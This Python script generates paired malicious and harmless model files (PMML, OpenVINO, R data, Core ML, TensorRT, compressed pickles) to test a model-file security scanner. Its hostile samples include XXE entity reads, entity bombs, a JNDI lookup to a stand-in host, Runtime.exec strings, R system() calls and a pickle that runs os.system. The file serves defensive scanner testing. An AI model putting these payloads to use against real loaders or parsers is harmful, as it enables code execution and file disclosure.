#!/usr/bin/env python3
"""Writes small model files of the formats beyond pickles and tensors, each attack with a harmless twin.

usage: make_formats.py FOLDER

FOLDER/index.tsv has a line a file: name, expectation, rule, format, as make_models.py writes it. "clean" means that it was
read to its end and nothing was found.
"""
import bz2, gzip, lzma, os, pickle, struct, sys, zlib

sys.dont_write_bytecode = True
import plain_models
from builders import Folder, pb, varint

out = sys.argv[1]
folder = Folder(out)


def put(name, data, expectation, rule="-", form="-"):
    folder.put(name, data, expectation, rule, form)


# ---- PMML ----
P = "pmml"


def pmml(extra="", prolog="", version="4.4", root="PMML", space="http://www.dmg.org/PMML-4_4", encoding="UTF-8", model=None):
    if model is None:
        model = f"""<TreeModel modelName="triage" functionName="classification" algorithmName="cart" splitCharacteristic="binarySplit">
  <MiningSchema><MiningField name="risk" usageType="target"/><MiningField name="age"/></MiningSchema>
  <Node score="low"><True/><Node score="high"><SimplePredicate field="age" operator="greaterThan" value="60"/></Node></Node>{extra}
 </TreeModel>"""
    return f"""<?xml version="1.0" encoding="{encoding}"?>
{prolog}<{root} xmlns="{space}" version="{version}">
 <Header copyright="Example Clinic" description="triage tree"><Application name="Model Writer" version="2.1"/><Timestamp>2026-01-02T03:04:05Z</Timestamp></Header>
 <DataDictionary numberOfFields="2"><DataField name="age" optype="continuous" dataType="double"/><DataField name="risk" optype="categorical" dataType="string"><Value value="low"/><Value value="high"/></DataField></DataDictionary>
 {model}
</{root}>
"""


put("pmml_tree", pmml(), "clean", "-", P)
put("pmml_bom", b"\xef\xbb\xbf" + pmml().encode(), "clean", "-", P)
put("pmml_utf16", pmml(encoding="UTF-16").encode("utf-16"), "clean", "-", P)
put("pmml_utf16_entity", pmml(encoding="UTF-16", prolog='<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/hostname">]>').encode("utf-16"), "found", "pmml-external-entity", P)
put("pmml_latin1", pmml('<Extension name="author" value="J\u00f6rg"/>', encoding="ISO-8859-1").encode("latin-1"), "clean", "-", P)
put("pmml_windows", pmml('<Extension name="price" value="3 \u20ac"/>', encoding="windows-1252").encode("cp1252"), "clean", "-", P)
put("pmml_prefix", pmml(root="d:PMML").replace("xmlns=", "xmlns:d="), "clean", "-", P)
put("pmml_comments", pmml(prolog="<!-- written by hand -->\n<?keep this?>\n"), "clean", "-", P)
put("pmml_mining", pmml(model='<MiningModel functionName="regression"><MiningSchema/><Segmentation multipleModelMethod="sum"><Segment id="1"><True/><TreeModel functionName="regression"><MiningSchema/><Node score="1"><True/></Node></TreeModel></Segment></Segmentation></MiningModel>'), "clean", "-", P)
put("pmml_extension", pmml('<Extension name="X-Importance" extender="Model Writer" value="0.25"><p xmlns="urn:example:notes">Trained on the second floor; evaluated twice.</p></Extension>'), "clean", "-", P)
put("pmml_extension_java", pmml('<Extension name="init">Runtime.getRuntime().exec("id")</Extension>'), "found", "pmml-code", P)
put("pmml_extension_deep", pmml('<Extension><a><b>import os; os.system("id")</b></a></Extension>'), "found", "pmml-code", P)
put("pmml_extension_value", pmml('<Extension name="handler" value="javascript:fetch(1)"/>'), "found", "pmml-code", P)
put("pmml_extension_named", pmml('<Extension name="groovyScript" value="1 + 1"/>'), "found", "pmml-code", P)
put("pmml_extension_long", pmml("<Extension>" + "<v>12345678</v>" * 20000 + "<v>new ProcessBuilder(a)</v></Extension>"), "found", "pmml-code", P)
put("pmml_extension_line", pmml("<Extension>" + "x" * 200000 + " Runtime.getRuntime().exec(a)</Extension>"), "found", "pmml-code", P)
put("pmml_extension_across", pmml("<Extension>" + "x" * ((64 << 10) - 8) + "Runtime.getRuntime().exec(a)</Extension>"), "found", "pmml-code", P)
put("pmml_far", pmml('<Extension><script>1</script></Extension>', prolog="<!-- " + "far " * 50000 + "-->\n"), "found", "xml-script", P)
put("pmml_quoted", pmml('<Extension><script>1</script></Extension>', prolog='<!DOCTYPE PMML [<!-- don\'t --><!ENTITY a "]>">]>\n'), "found", "xml-script", P)
put("pmml_many_fields", pmml(model="<TreeModel><MiningSchema>" + "".join(f'<MiningField name="f{i}" usageType="target"/>' for i in range(20000)) + "</MiningSchema></TreeModel>"), "clean", "-", P)
put("pmml_jndi", pmml('<Extension name="note" value="${jndi:ldap://example.test/a}"/>'), "found", "pmml-code", P)
put("pmml_script", pmml('<Extension><script>1</script></Extension>'), "found", "xml-script", P)
put("pmml_words", pmml('<Extension name="description" value="the runtime of the process builder pattern, in seconds"/>'), "clean", "-", P)
put("pmml_xslt", pmml('<Extension><xsl:value-of xmlns:xsl="http://www.w3.org/1999/XSL/Transform" select="1"/></Extension>'), "found", "xml-script", P)
put("pmml_xinclude", pmml('<Extension><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname" parse="text"/></Extension>'), "found", "xml-include", P)
put("pmml_stylesheet", pmml(prolog='<?xml-stylesheet type="text/xsl" href="http://example.test/a.xsl"?>\n'), "found", "xml-script", P)
put("pmml_css", pmml(prolog='<?xml-stylesheet type="text/css" href="pmml.css"?>\n'), "clean", "-", P)
put("pmml_entity_parameter", pmml(prolog='<!DOCTYPE PMML [<!ENTITY % x SYSTEM "http://example.test/x.dtd"> %x;]>\n'), "found", "pmml-external-entity", P)
put("pmml_doctype_elsewhere", pmml(prolog='<!DOCTYPE PMML SYSTEM "http://example.test/pmml.dtd">\n'), "found", "pmml-external-entity", P)
put("pmml_doctype_dmg", pmml(prolog='<!DOCTYPE PMML PUBLIC "PMML 2.0" "http://www.dmg.org/v2-0/pmml_v2_0.dtd">\n', version="2.0"), "found", "pmml-external-dtd", P)
put("pmml_entity_in_attribute", pmml('<Extension name="&n;"/>', prolog='<!DOCTYPE PMML [<!ENTITY n "note">]>\n'), "clean", "-", P)
put("pmml_entity_inside", pmml('<Extension>&n;</Extension>', prolog='<!DOCTYPE PMML [<!ENTITY n "a note">]>\n'), "clean", "-", P)
laughs = "<!DOCTYPE PMML [<!ENTITY a0 \"ha\">" + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)) + "]>\n"
put("pmml_laughs", pmml('<Extension>&a9;</Extension>', prolog=laughs), "found", "xml-entity-bomb", P)
put("pmml_laughs_unused", pmml(prolog=laughs), "found", "xml-entity-bomb", P)
put("pmml_few_laughs", pmml('<Extension>&a2;</Extension>', prolog=laughs.split("<!ENTITY a3")[0] + "]>\n"), "clean", "-", P)
put("pmml_entity_circle", pmml(prolog='<!DOCTYPE PMML [<!ENTITY a "&b;"><!ENTITY b "&a;">]>\n'), "found", "xml-entity-bomb", P)
put("pmml_quadratic", pmml('<Extension>' + "&a;" * 1500 + '</Extension>', prolog='<!DOCTYPE PMML [<!ENTITY a "' + "x" * 50000 + '">]>\n'), "found", "xml-entity-bomb", P)
put("pmml_ampersands", pmml(prolog='<!DOCTYPE PMML [<!ENTITY a "' + "&#38;" * 1000000 + '">]>\n'), "unread", "-", P)
put("pmml_references", pmml("<Extension>" + "&a;" * 500001 + "</Extension>", prolog='<!DOCTYPE PMML [<!ENTITY a "">]>\n'), "unread", "-", P)
put("pmml_many_entities", pmml(prolog="<!DOCTYPE PMML [" + "".join(f'<!ENTITY e{i} "x">' for i in range(2000)) + "]>\n"), "unread", "-", P)
put("pmml_function", pmml('<LocalTransformations><DerivedField name="d" optype="continuous" dataType="double"><Apply function="com.example.scoring.Fancy"><FieldRef field="age"/></Apply></DerivedField></LocalTransformations>'), "found", "pmml-foreign-function", P)
put("pmml_function_own", pmml('<LocalTransformations><DerivedField name="d" optype="continuous" dataType="double"><Apply function="x.log1p"><FieldRef field="age"/></Apply></DerivedField></LocalTransformations>'), "clean", "-", P)
put("pmml_cut", pmml()[:-30], "found", "xml-malformed", P)
put("pmml_cut_unread", pmml()[:-30], "unread", "-", P)
put("pmml_twice", pmml() + pmml(), "found", "xml-malformed", P)
put("pmml_deep", pmml(model="<TreeModel>" + "<Node>" * 20000 + "</Node>" * 20000 + "</TreeModel>"), "clean", "-", P)
put("pmml_too_deep", pmml(model="<TreeModel>" + "<Node>" * 100100 + "</Node>" * 100100 + "</TreeModel>"), "unread", "-", P)
put("no_pmml_inside", "<?xml version=\"1.0\"?>\n<report>" + pmml().split("?>", 1)[1] + "</report>", "none")

# ---- OpenVINO ----
V = "openvino"


def const(offset, size, shape="2,3", kind="f32", name="w"):
    return f'<layer id="1" name="{name}" type="Const" version="opset1"><data element_type="{kind}" shape="{shape}" offset="{offset}" size="{size}"/><output><port id="0" precision="FP32"><dim>2</dim><dim>3</dim></port></output></layer>'


def net(layers, version="11", prolog=""):
    return f"""<?xml version="1.0"?>
{prolog}<net name="main_graph" version="{version}">
<layers><layer id="0" name="x" type="Parameter" version="opset1"><data shape="?,3" element_type="f32"/></layer>{layers}<layer id="9" name="y" type="MatMul" version="opset1"><data transpose_a="false" transpose_b="true"/></layer></layers>
<edges><edge from-layer="0" from-port="0" to-layer="9" to-port="0"/></edges>
<rt_info><Runtime_version value="2024.1.0-15008"/><conversion_parameters><framework value="onnx"/><is_python_object value="False"/></conversion_parameters></rt_info>
</net>"""


put("openvino_good", net(const(0, 24)), "clean", "-", V)
put("openvino_types", net(const(0, 3, "2,3", "u4") + const(3, 12, "2,3", "bf16") + const(15, 1, "6", "u1") + const(16, 9, "2", "string") + const(25, 8, "", "i64")), "clean", "-", V)
put("openvino_far", net('<layer id="2" name="f" type="Python" version="opset1"/>', prolog="<!-- " + "far " * 50000 + "-->\n"), "found", "openvino-foreign-code", V)
put("openvino_old", '<?xml version="1.0" ?>\n<net batch="1" name="old" version="6"><layers><layer id="0" name="c" precision="FP32" type="Convolution"><data kernel="3,3"/><blobs><weights offset="0" size="864"/><biases offset="864" size="128"/></blobs></layer></layers><meta_data><MO_version value="2019.1"/></meta_data></net>', "clean", "-", V)
put("openvino_body", net('<layer id="2" name="l" type="Loop" version="opset5"><body><layers>' + const(0, 24) + '</layers></body></layer>'), "clean", "-", V)
put("openvino_experimental", net('<layer id="2" name="l" type="ExperimentalDetectronROIFeatureExtractor" version="experimental"/>'), "clean", "-", V)
put("openvino_custom", net('<layer id="2" name="f" type="FancyOp" version="extension"/>'), "found", "openvino-custom-operator", V)
put("openvino_custom_body", net('<layer id="2" name="l" type="If" version="opset8"><then_body><layers><layer id="0" name="f" type="FancyOp" version="my_opset"/></layers></then_body></layer>'), "found", "openvino-custom-operator", V)
put("openvino_python", net('<layer id="2" name="f" type="Python" version="opset1"/>'), "found", "openvino-foreign-code", V)
put("openvino_library", net('<layer id="2" name="f" type="Relu" version="opset1" library="fancy.so"/>'), "found", "openvino-foreign-code", V)
put("openvino_library_data", net('<layer id="2" name="f" type="Relu" version="opset1"><data plugin="../fancy.dll"/></layer>'), "found", "openvino-foreign-code", V)
put("openvino_named_so", net('<layer id="2" name="block.so" type="Relu" version="opset1"/>'), "clean", "-", V)
put("openvino_negative", net(const(-8, 24)), "found", "openvino-malformed", V)
put("openvino_overflow", net(const(1 << 63, 24)), "found", "openvino-malformed", V)
put("openvino_size", net(const(0, 25)), "found", "openvino-malformed", V)
put("openvino_shape", net(const(0, 24, "2,x")), "found", "openvino-malformed", V)
put("openvino_shape_huge", net(const(0, 24, ",".join(["65536"] * 9))), "found", "openvino-malformed", V)
put("openvino_entity", net(const(0, 24), prolog='<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/hostname">]>'), "found", "xml-external-entity", V)
put("openvino_laughs", net(const(0, 24), prolog=laughs.replace("PMML", "net")), "found", "xml-entity-bomb", V)
put("openvino_cut", net(const(0, 24))[:-9], "found", "xml-malformed", V)
put("openvino_utf16", net(const(0, 24)).encode("utf-16"), "clean", "-", V)
put("no_openvino", '<?xml version="1.0"?>\n<net name="mesh" version="2"><nodes/></net>', "none")

# ---- R: serialized data, big-endian unless said ----
R = "rds"


class Rds:
    """Items of R's serialization. Each is a list of ("i", number), ("d", number) or ("s", bytes), encoded at the end."""
    NIL, GLOBAL, UNBOUND, MISSING, EMPTY, BASE = [[("i", n)] for n in (254, 253, 252, 251, 242, 241)]

    def __init__(self, mode="X", version=3):
        self.mode, self.version = mode, version

    def char(self, s):
        return [("i", 0x00040009), ("i", len(s)), ("s", s.encode())]

    def sym(self, s):
        return [("i", 1)] + self.char(s)

    def string(self, *values, attributes=None):
        return [("i", 16 | (0x200 if attributes else 0)), ("i", len(values))] + sum((self.char(v) for v in values), []) + (attributes or [])

    def real(self, *values):
        return [("i", 14), ("i", len(values))] + [("d", v) for v in values]

    def ints(self, *values):
        return [("i", 13), ("i", len(values))] + [("i", v) for v in values]

    def pairs(self, values, kind=2, end=None, flags=0):
        """(tag or None, item) ..., as a pairlist, or as a call where kind is 6."""
        out = []
        for i, (tag, v) in enumerate(values):
            out += [("i", (kind if i == 0 else 2) | (0x400 if tag else 0) | flags)] + (self.sym(tag) if tag else []) + v
        return out + (end or self.NIL)

    def call(self, name, *args):
        return self.pairs([(None, self.sym(name) if isinstance(name, str) else name)] + [(None, a) for a in args], 6)

    def promise(self, code, value=None, env=None):
        value = value or self.UNBOUND
        return [("i", 5 | (0x400 if env else 0))] + (env or []) + value + code

    def function(self, body, args=None):
        return [("i", 3 | 0x400)] + self.GLOBAL + (args or self.NIL) + body

    def env(self, frame=None, table=None):
        return [("i", 4), ("i", 0)] + self.EMPTY + (frame or self.NIL) + (table or self.NIL) + self.NIL

    def vec(self, values, attributes=None):
        return [("i", 19 | (0x300 if attributes else 0)), ("i", len(values))] + sum(values, []) + (attributes or [])

    def bytecode(self, *constants):
        """The constants: (type, item) ..."""
        out = [("i", 21), ("i", 1)] + self.ints(12, 0, 1) + [("i", len(constants))]
        for kind, v in constants:
            out += [("i", kind)] + v
        return out

    def model(self, call=None, **more):
        names = ["coefficients", "call"] + list(more)
        return self.vec([self.real(37.3, -5.3), call or self.call("lm", self.call("~", self.sym("mpg"), self.sym("wt")))] + list(more.values()),
                        self.pairs([("names", self.string(*names)), ("class", self.string("lm"))]))

    def file(self, item, image=False, writer=0x40202):
        def one(kind, v):
            if self.mode == "A":
                if kind == "i":
                    return b"NA\n" if v == -(1 << 31) else b"%d\n" % v
                return b"%r\n" % v if kind == "d" else "".join(chr(c) if 33 <= c < 127 and c not in b"\\'\"?" else "\\%03o" % c for c in v).encode() + b"\n"
            order = ">" if self.mode == "X" else "<"
            return v if kind == "s" else struct.pack(order + kind, v)
        head = [("i", self.version), ("i", writer), ("i", 0x30500 if self.version == 3 else 0x20300)]
        if self.version == 3:
            head += [("i", 5), ("s", b"UTF-8")]
        front = b"RD" + self.mode.encode() + b"%d\n" % self.version if image else b""
        return front + self.mode.encode() + b"\n" + b"".join(one(k, v) for k, v in head + item)


r = Rds()
run = r.call("system", r.string("id"))
calm = r.call("message", r.string("hi"))
put("rds_model", r.file(r.model()), "clean", "-", R)
for name, pack in (("gz", gzip.compress), ("bz2", bz2.compress), ("xz", lzma.compress), ("lzma", lambda b: lzma.compress(b, lzma.FORMAT_ALONE))):
    put("rds_model_" + name, pack(r.file(r.model())), "clean", "-", R)
    put("rds_promise_" + name, pack(r.file(r.promise(calm))), "found", "r-promise", R)
for mode, name in (("A", "ascii"), ("B", "native")):
    o = Rds(mode)
    put("rds_model_" + name, o.file(o.model()), "clean", "-", R)
    put("rds_promise_" + name, o.file(o.promise(o.call("message", o.string("it's \\ a \"test\"\n")))), "found", "r-promise", R)
o = Rds("X", 2)
put("rds_model_v2", o.file(o.model()), "clean", "-", R)
put("rds_many_objects", r.file(r.pairs([(f"object{i}", r.NIL) for i in range(10000)]), True), "clean", "-", R)
put("rds_promise", r.file(r.promise(calm)), "found", "r-promise", R)
put("rds_promise_system", r.file(r.promise(run)), "found", "r-dangerous-call", R)
put("rds_promise_env", r.file(r.promise(run, env=r.GLOBAL)), "found", "r-promise", R)
put("rds_promise_in_list", r.file(r.vec([r.real(1.0), r.promise(calm)])), "found", "r-promise", R)
put("rds_promise_in_attribute", r.file(r.model(extra=[("i", 14 | 0x200), ("i", 0)] + r.pairs([("note", r.promise(calm))]))), "found", "r-promise", R)
put("rds_promise_bytecode", r.file(r.promise(r.bytecode((16, r.string("a"))))), "found", "r-promise", R)
put("rds_promise_done", r.file(r.vec([r.promise(run, r.real(1.0))])), "clean", "-", R)
put("rds_frame_done", r.file(r.env(r.pairs([("d", r.promise(r.sym("mtcars"), r.real(1.0)))]))), "clean", "-", R)
put("rds_frame_waits", r.file(r.env(r.pairs([("unused", r.promise(r.call("nrow", r.sym("d")), env=r.GLOBAL))]))), "clean", "-", R)
put("rds_frame_system", r.file(r.env(r.pairs([("unused", r.promise(run, env=r.GLOBAL))]))), "found", "r-dangerous-call", R)
put("rds_table_system", r.file(r.env(None, r.vec([r.NIL, r.pairs([("unused", r.promise(run))])]))), "found", "r-dangerous-call", R)
put("rds_table_waits", r.file(r.env(None, r.vec([r.NIL, r.pairs([("unused", r.promise(calm))])]))), "clean", "-", R)
put("rds_list_in_table", r.file(r.env(None, r.vec([r.NIL, r.pairs([("a", r.vec([r.promise(calm)]))])]))), "found", "r-promise", R)
put("rds_call_system", r.file(r.model(run)), "found", "r-dangerous-call", R)
put("rds_call_namespace", r.file(r.model(r.call(r.call("::", r.sym("base"), r.sym("system")), r.string("id")))), "found", "r-dangerous-call", R)
put("rds_call_string", r.file(r.model(r.call(r.string("system"), r.string("id")))), "found", "r-dangerous-call", R)
put("rds_call_do", r.file(r.model(r.call("do.call", r.string("system"), r.vec([r.string("id")])))), "found", "r-dangerous-call", R)
put("rds_call_do_calm", r.file(r.model(r.call("do.call", r.string("paste"), r.vec([r.string("system")])))), "clean", "-", R)
put("rds_call_word", r.file(r.model(r.call("lm", r.sym("system"), r.string("system")))), "clean", "-", R)
put("rds_formula_system", r.file(r.model(r.call("~", r.sym("y"), r.call("system", r.string("id"))))), "found", "r-dangerous-call", R)
put("rds_expression", r.file([("i", 20), ("i", 1)] + run), "found", "r-dangerous-call", R)
put("rds_function", r.file(r.function(r.call("+", r.sym("x"), r.real(1.0)), r.pairs([("x", r.MISSING)]))), "clean", "-", R)
put("rds_function_system", r.file(r.function(run)), "found", "r-function-call", R)
put("rds_function_symbols", r.file(r.function(r.bytecode((1, r.sym("system")), (16, r.string("id"))))), "found", "r-function-call", R)
put("rds_function_bytecode", r.file(r.function(r.bytecode((6, r.NIL + [("i", 1)] + r.sym("f") + [("i", 254)] + r.NIL), (14, r.real(2.0))))), "clean", "-", R)
put("rds_bytecode_tree", r.file(r.function(r.bytecode((6, r.NIL + [("i", 1)] + r.sym("system") + [("i", 254)] + r.NIL)))), "found", "r-function-call", R)
put("rds_active", r.file(r.env(r.pairs([("y", r.function(run))], flags=1 << 27))), "found", "r-dangerous-call", R)
put("rds_active_calm", r.file(r.env(r.pairs([("y", r.function(calm))], flags=1 << 27))), "clean", "-", R)
put("rds_pointer", r.file([("i", 22)] + r.NIL + r.NIL), "clean", "-", R)
put("rds_namespace", r.file([("i", 249), ("i", 0), ("i", 2)] + r.char("stats") + r.char("4.2.2")), "clean", "-", R)
put("rds_builtin", r.file([("i", 8), ("i", 3), ("s", b"sum")]), "clean", "-", R)
put("rds_s4", r.file([("i", 25 | 0x300)] + r.pairs([("w", r.real(1.0)), ("class", r.string("Net", attributes=r.pairs([("package", r.string("mine"))])))])), "clean", "-", R)
put("rds_sequence", r.file([("i", 238)] + r.pairs([(None, r.sym("compact_intseq")), (None, r.sym("base")), (None, r.ints(13))]) + r.real(10.0, 1.0, 1.0) + r.NIL), "clean", "-", R)
put("rds_mmap", r.file([("i", 238)] + r.pairs([(None, r.sym("mmap_real")), (None, r.sym("base")), (None, r.ints(14))]) + r.string("/etc/hostname") + r.NIL), "found", "r-maps-file", R)
put("rds_image", r.file(r.pairs([("fit", r.model()), ("n", r.ints(3))]), True), "clean", "-", R)
put("rds_image_gz", gzip.compress(r.file(r.pairs([("fit", r.model())]), True)), "clean", "-", R)
put("rds_image_promise", r.file(r.pairs([("fit", r.promise(calm, env=r.GLOBAL))]), True), "found", "r-promise", R)
put("rds_image_first", r.file(r.pairs([(".First", r.function(calm))]), True), "found", "r-startup-function", R)
put("rds_image_masks", r.file(r.pairs([("library", r.function(calm))]), True), "found", "r-masks-function", R)
put("rds_image_own", r.file(r.pairs([("my_score", r.function(calm))]), True), "clean", "-", R)
put("rds_first_is_data", r.file(r.pairs([(".First", r.real(1.0))]), True), "clean", "-", R)
put("rds_twice", r.file(r.model()) + r.file(r.model()), "clean", "-", R)
put("rds_second_promise", r.file(r.model()) + r.file(r.promise(calm)), "found", "r-promise", R)
put("rds_behind", r.file(r.model()) + b"something else", "unread", "-", R)
put("rds_cut", r.file(r.model())[:-9], "unread", "-", R)
put("rds_cut_gz", gzip.compress(r.file(r.model()))[:-20], "unread", "-", R)
put("rds_kind", r.file([("i", 99)]), "unread", "-", R)
put("rds_reference", r.file([("i", 255 | 7 << 8)]), "unread", "-", R)
put("rds_negative", r.file([("i", 19), ("i", -7)]), "unread", "-", R)
put("rds_long", r.file([("i", 14), ("i", -1), ("i", 1 << 20), ("i", 0)]), "unread", "-", R)
put("rds_deep", r.file([("i", 19), ("i", 1)] * 1400 + r.NIL), "clean", "-", R)
put("rds_too_deep", r.file([("i", 19), ("i", 1)] * 100000 + r.NIL), "unread", "-", R)
put("rds_too_deep_calls", r.file([("i", 6)] * 100000 + r.NIL), "unread", "-", R)
put("rds_bomb", gzip.compress(r.file([("i", 14), ("i", 8 << 20)]) + bytes(64 << 20), 9), "clean", "-", R)
put("no_rds_text", "A\n2\nhello\n3\n" + "x" * 40, "none")
put("no_rds_binary", b"X\n\0\0\0\x07" + bytes(40), "none")
put("no_rds_gz", gzip.compress(b"X\nhello" + bytes(40)), "none")

# ---- Core ML: protobuf ----
C = "coreml"


def entry(field, key, value):
    return pb(field, pb(1, key) + pb(2, value))


def described(notes=(), **texts):
    numbers = {"title": 1, "version": 2, "author": 3, "license": 4}
    meta = b"".join(pb(numbers[k], v) for k, v in texts.items()) + b"".join(entry(100, k, v) for k, v in notes)
    return pb(2, pb(1, pb(1, "image") + pb(3, b"")) + pb(10, pb(1, "label")) + pb(100, meta))


def coreml(kind, body, version=6, head=None):
    return pb(1, version) + (described(title="triage", author="Example Clinic", license="MIT", version="1.2") if head is None else head) + pb(kind, body)


def nn_layer(kind, body=b"", name="l"):
    return pb(1, pb(1, name) + pb(2, "image") + pb(3, "label") + pb(kind, body))


def tensor_type(kind, *dims):
    return pb(1, pb(1, kind) + pb(2, len(dims)) + b"".join(pb(3, pb(1, pb(1, d))) for d in dims))


def stored(path, kind=11, dims=(2, 3)):
    return pb(2, tensor_type(kind, *dims)) + pb(5, pb(1, path) + pb(2, 64))


def op(name, attributes=(), inputs=(), blocks=()):
    return pb(3, pb(1, name) + b"".join(entry(2, k, pb(1, pb(2, v))) for k, v in inputs) + b"".join(pb(4, b) for b in blocks) + b"".join(entry(5, k, v) for k, v in attributes))


def mlprogram(*ops):
    return pb(1, 1) + entry(2, "main", pb(2, "CoreML7") + entry(3, "CoreML7", pb(2, "label") + b"".join(ops)))


conv = nn_layer(100, pb(1, 8) + pb(90, pb(1, bytes(64))))
fancy = nn_layer(500, pb(10, "FancyLayer") + entry(30, "alpha", pb(20, 1)))
put("coreml_network", coreml(500, conv + nn_layer(130)), "clean", "-", C)
put("coreml_classifier", coreml(403, conv + pb(100, pb(1, "a") + pb(1, "b"))), "clean", "-", C)
put("coreml_trees", coreml(402, pb(1, bytes(40))), "clean", "-", C)
put("coreml_notes", coreml(500, conv, head=described([("com.github.apple.coremltools.version", "7.1"), ("com.github.apple.coremltools.source", "torch==2.1.0"), ("classes", "cat,dog")], title="x")), "clean", "-", C)
put("coreml_note_code", coreml(500, conv, head=described([("init", "import os; os.system('id')")])), "found", "coreml-code", C)
put("coreml_note_word", coreml(500, conv, head=described([("init", "how the operating system executes it")])), "clean", "-", C)
put("coreml_custom_layer", coreml(500, conv + fancy), "found", "coreml-custom-code", C)
put("coreml_custom_layer_code", coreml(500, nn_layer(500, pb(10, "FancyLayer") + entry(30, "run", pb(30, "/bin/sh -c id")))), "found", "coreml-code", C)
put("coreml_custom_in_branch", coreml(500, nn_layer(605, pb(1, conv) + pb(2, fancy))), "found", "coreml-custom-code", C)
put("coreml_custom_in_loop", coreml(500, nn_layer(615, pb(3, conv) + pb(4, nn_layer(605, pb(1, fancy))))), "found", "coreml-custom-code", C)
put("coreml_branch", coreml(500, nn_layer(605, pb(1, conv) + pb(2, conv))), "clean", "-", C)
put("coreml_custom_model", coreml(555, pb(10, "FancyModel")), "found", "coreml-custom-code", C)
put("coreml_pipeline", coreml(202, pb(1, coreml(604, pb(1, bytes(8)))) + pb(1, coreml(500, conv))), "clean", "-", C)
put("coreml_pipeline_custom", coreml(200, pb(1, pb(1, coreml(202, pb(1, coreml(500, fancy)))))), "found", "coreml-custom-code", C)
nested = coreml(500, fancy)
for _ in range(40):
    nested = coreml(202, pb(1, nested))
put("coreml_pipeline_deep", nested, "unread", "-", C)


def link(name, search=""):
    return coreml(556, pb(1, pb(1, pb(1, name)) + pb(2, pb(1, search))))


put("coreml_many_notes", coreml(900, b"", head=described([(f"note{i}", "x") for i in range(10000)], title="x")), "clean", "-", C)
put("coreml_linked", link("Features.mlmodelc", ".:$BUNDLE_MAIN"), "clean", "-", C)
put("coreml_linked_up", link("../../other/Features.mlmodelc"), "found", "coreml-external-path", C)
put("coreml_linked_absolute", link("/private/tmp/F.mlmodelc"), "found", "coreml-external-path", C)
put("coreml_linked_search", link("F.mlmodelc", ".:/tmp"), "found", "coreml-external-path", C)
put("coreml_program", coreml(502, mlprogram(op("const", [("val", stored("@model_path/weights/weight.bin"))]), op("conv"))), "clean", "-", C)
put("coreml_program_input", coreml(502, mlprogram(op("linear", inputs=[("weight", stored("@model_path/weights/weight.bin"))]))), "clean", "-", C)
put("coreml_program_up", coreml(502, mlprogram(op("const", [("val", stored("@model_path/../../secret.bin"))]))), "found", "coreml-external-path", C)
put("coreml_program_input_up", coreml(502, mlprogram(op("linear", inputs=[("weight", stored("/etc/hostname"))]))), "found", "coreml-external-path", C)
put("coreml_program_block_up", coreml(502, mlprogram(op("cond", blocks=[op("const", [("val", stored("..\\..\\secret.bin"))])]))), "found", "coreml-external-path", C)
put("coreml_program_class", coreml(502, mlprogram(op("custom_op", [("class_name", pb(3, pb(1, pb(4, pb(1, "FancyOp")))))]))), "found", "coreml-custom-code", C)
put("coreml_new_kind", coreml(777, b""), "unread", "-", C)
put("coreml_broken_layer", coreml(500, pb(1, b"\x0a\xff\xff")), "found", "coreml-malformed", C)
put("coreml_broken_unread", coreml(500, pb(1, b"\x0a\xff\xff")), "unread", "-", C)

# ---- TensorRT ----
T = "tensorrt"
engine = b"ftrt" + struct.pack("<IQQ", 0, 100, 0) + bytes([8, 6, 1, 6]) + bytes(100)
elf = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(60)
cubin = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 190, 1) + bytes(60)
put("tensorrt_engine", engine, "found", "tensorrt-native-code", T)
put("tensorrt_engine_unread", engine, "unread", "-", T)
put("tensorrt_library", engine + cubin + elf, "found", "tensorrt-embedded-library", T)
put("tensorrt_kernel", engine + cubin, "unread", "-", T)
text = b'{"description": "detector", "author": "Example Clinic", "license": "AGPL-3.0", "task": "detect"}'
put("tensorrt_described", struct.pack("<I", len(text)) + text + engine, "found", "tensorrt-native-code", T)
put("no_tensorrt", b"ftrt is not a word, but this is a text\n", "none")

# ---- compressed pickles: frames of LZ4 and zstd with a stored block, and what Python packs itself ----
def xxh32(data):
    """Of less than 16 bytes: enough for the header of a frame."""
    p2, p3, p4, p5, m = 2246822519, 3266489917, 668265263, 374761393, 0xffffffff
    h = (p5 + len(data)) & m
    for b in data:
        h = (h + b * p5) & m
        h = ((h << 11 | h >> 21) * 2654435761) & m
    h = ((h ^ h >> 15) * p2) & m
    h = ((h ^ h >> 13) * p3) & m
    return h ^ h >> 16


def lz4(data):
    head = b"\x60\x40"
    return b"\x04\x22\x4d\x18" + head + bytes([xxh32(head) >> 8 & 0xff]) + struct.pack("<I", len(data) | 1 << 31) + data + bytes(4)


def zstd(data):
    return b"\x28\xb5\x2f\xfd" + b"\xa0" + struct.pack("<I", len(data)) + struct.pack("<I", len(data) << 3 | 1)[:3] + data


class Calls:
    def __reduce__(self):
        return os.system, ("id",)


calm_pickle, bad_pickle = pickle.dumps({"a": list(range(50)), "b": "x" * 90}, 4), pickle.dumps([Calls()], 4)
for name, pack in (("zlib", zlib.compress), ("gzip", gzip.compress), ("bz2", bz2.compress), ("xz", lzma.compress), ("lz4", lz4), ("zstd", zstd),
                   ("lzma", lambda b: lzma.compress(b, lzma.FORMAT_ALONE))):
    put("packed_calm_" + name, pack(calm_pickle), "clean")
    put("packed_bad_" + name, pack(bad_pickle), "found", "pickle-dangerous-call")
    if name in ("zlib", "gzip"): # the others give nothing before their block is whole
        put("packed_cut_" + name, pack(bad_pickle + calm_pickle)[:-30], "found", "pickle-dangerous-call")
    put("no_packed_" + name, pack(b"hello, this is a text\n" * 20), "none")
put("rds_model_zstd", zstd(r.file(r.model())), "clean", "-", R)

# ---- trees, networks, old ggml, ExecuTorch: plain_models.py ----
for row in plain_models.models():
    put(*row)

# ---- further formats above this line ----
folder.index()
